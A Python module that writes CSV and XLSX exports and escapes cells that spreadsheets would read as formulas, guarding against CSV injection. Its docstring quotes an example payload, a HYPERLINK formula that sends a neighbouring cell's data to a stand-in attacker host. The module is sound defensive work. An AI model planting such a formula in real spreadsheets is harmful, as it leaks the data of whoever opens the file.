"""Writing the spreadsheets we hand out (CSV and XLSX) so that opening one runs nothing.

A task title, a territory's name or a display name is typed by someone other than the person
who opens the export. A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
is a formula to Excel and LibreOffice, and `=HYPERLINK("http://evil.example/?leak="&B2, ...)`
sends the row next to it away. So, as OWASP's CSV-injection guidance says, every text cell
that begins so gets a leading apostrophe, in CSV and XLSX alike; text is stored as text and CSV
quotes every text cell, so a separator inside one never starts a new cell. The only formulas
are the ones we write ourselves (`Formula`: a column's total). The readers take the
apostrophe off again (`restored`), so what an export writes imports back the same.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from learnlink.lib.spreadsheets.errors import SpreadsheetError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
BOLD = Font(bold=True)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WIDTHS = (10, 60)  # the narrowest and widest column, in characters


class Formula(str):
    """A formula we wrote ourselves, such as `=SUM(B2:B9)`: the one text kept as a formula."""


@dataclass(frozen=True)
class Formatted:
    """A number, or our formula, shown with an Excel number format such as `#,##0.0`."""

    value: int | float | Decimal | Formula
    number_format: str


Value = str | int | float | Decimal | datetime.date | Formatted | None


@dataclass(frozen=True)
class Table:
    """A sheet to write: a header and rows of values in the header's order."""

    header: Sequence[str]
    rows: Iterable[Sequence[Value]]


def neutralised(text: str) -> str:
    """The text as a cell that no spreadsheet reads as a formula."""
    return ESCAPE + text if text.startswith(FORMULA_STARTS) else text


def restored(text: str) -> str:
    """A cell as it was before `neutralised`: what readers of our own exports call."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def write_sheets(path: Path, sheets: Mapping[str, Table]) -> None:
    """Write sheets by name: an XLSX holds them all, a CSV exactly one (its name is not kept)."""
    suffix = path.suffix.lower()
    if suffix not in (".csv", ".xlsx"):
        raise SpreadsheetError(f"{path.name}: cannot write a {suffix or 'nameless'} file; "
                               "use .csv or .xlsx")
    if suffix == ".csv" and len(sheets) != 1:
        raise SpreadsheetError(f"{path.name}: a CSV file holds one sheet, not {len(sheets)}")
    # Built in memory and written at once: a file that cannot be written is left untouched.
    data = csv_bytes(*sheets.values()) if suffix == ".csv" else xlsx_bytes(sheets)
    try:
        path.write_bytes(data)
    except OSError as error:
        raise SpreadsheetError(f"{path.name}: cannot be written ({error.strerror})") from error


def csv_bytes(table: Table) -> bytes:
    """UTF-8 with a byte-order mark, so Excel shows Swahili and French names with their
    accents; numbers as they are, every text quoted and neutralised (formulas too: a CSV
    holds values, and a total is one)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC)
    for row in (table.header, *table.rows):
        writer.writerow([_csv_value(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _csv_value(value: Value) -> object:
    if isinstance(value, Formatted):
        value = value.value
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    return neutralised(value if isinstance(value, str) else value.isoformat())


def xlsx_bytes(sheets: Mapping[str, Table]) -> bytes:
    """A workbook of the sheets: a bold header, columns as wide as their text (within
    WIDTHS), text stored as text."""
    workbook = Workbook(write_only=True)
    for name, table in sheets.items():
        rows = [list(row) for row in table.rows]
        sheet = workbook.create_sheet(name)
        _set_widths(sheet, [list(table.header), *rows])
        sheet.append([_cell(sheet, title, BOLD) for title in table.header])
        for row in rows:
            sheet.append([_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cell(sheet: WriteOnlyWorksheet, given: Value, font: Font | None = None) -> Cell:
    value = given.value if isinstance(given, Formatted) else given
    if isinstance(value, str) and not isinstance(value, Formula):
        cell = WriteOnlyCell(sheet, neutralised(value))
        cell.data_type = "s"  # openpyxl would store any text that begins with "=" as a formula
    else:
        cell = WriteOnlyCell(sheet, value)  # type: ignore[arg-type]  # dates and Decimals too
    if isinstance(given, Formatted):
        cell.number_format = given.number_format
    if font is not None:
        cell.font = font
    return cell


def _set_widths(sheet: WriteOnlyWorksheet, rows: list[list[Value]]) -> None:
    """Set before the first row, as a write-only sheet needs."""
    columns = max((len(row) for row in rows), default=0)
    for index in range(columns):
        width = max(_width(row[index]) for row in rows if index < len(row))
        dimension = sheet.column_dimensions[get_column_letter(index + 1)]  # type: ignore[attr-defined]
        dimension.width = min(max(width + 2, WIDTHS[0]), WIDTHS[1])


def _width(value: Value) -> int:
    if isinstance(value, Formatted | Formula) or value is None:
        return 0
    return len(str(value))
